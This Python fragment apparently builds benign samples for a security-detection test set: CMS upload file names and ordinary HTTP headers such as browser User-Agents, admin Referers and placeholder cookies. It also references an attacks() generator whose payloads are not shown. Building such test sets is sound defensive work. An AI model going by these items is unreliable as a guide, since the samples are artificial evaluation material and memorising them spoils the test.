UPLOAD_NAMES = [
    "hero_budget-2024_1600x900.jpg", "cup-final-gallery-01.webp", "byline-ana-ribeiro.png", "logo-dark.svg",
    "podcast-ep42-final.mp3", "election-map-embed.png", "WordPress.2024-06-12.xml", "posts-export-june.csv",
    "drupal-views-export.yml", "redirects-2018-migration.csv", "newsletter-template-v3.html", "style-guide.pdf",
    "contentful-export-2024-06-12.json", "sanity-dataset-production.tar.gz", "ghost-content-backup.json",
    "media-library-cleanup.xlsx", "alt-text-audit.csv", "comment-moderation-rota.ics", "liveblog-screenshot.png",
    "theme-child-2.3.1.zip", "typo3-page-tree.pdf", "umbraco-doc-types.pdf", "wiki-handbook-export.xml",
    "phpbb-forum-archive.zip", "og-image-default.jpg",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "WordPress/6.5.3; https://news.example.com"),
    ("User-Agent", "Jetpack by WordPress.com"),
    ("User-Agent", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)"),
    ("User-Agent", "Drupal (+https://www.drupal.org/)"),
    ("User-Agent", "GuzzleHttp/7"),
    ("Referer", "https://news.example.com/wp-admin/post.php?post=48213&action=edit"),
    ("Referer", "https://news.example.com/wp-admin/admin.php?page=wpseo_dashboard"),
    ("Referer", "https://cms.example.com/admin/content?status=1&type=article"),
    ("Referer", "https://wiki.example.com/index.php?title=Special:RecentChanges"),
    ("Referer", "https://news.example.com/?s=budget+2024"),
    ("Referer", "https://www.google.com/search?q=wordpress+gallery+shortcode+not+working"),
    ("X-Api-Version", "2024-06-01"),
    ("X-WP-Nonce", "a1b2c3d4e5"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; wp-settings-time-3=1718000000; editor_mode=block"),
    ("Cookie", "session=abc123; last_search=sport%20desk; tz=Europe%2FLisbon"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 08:00:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
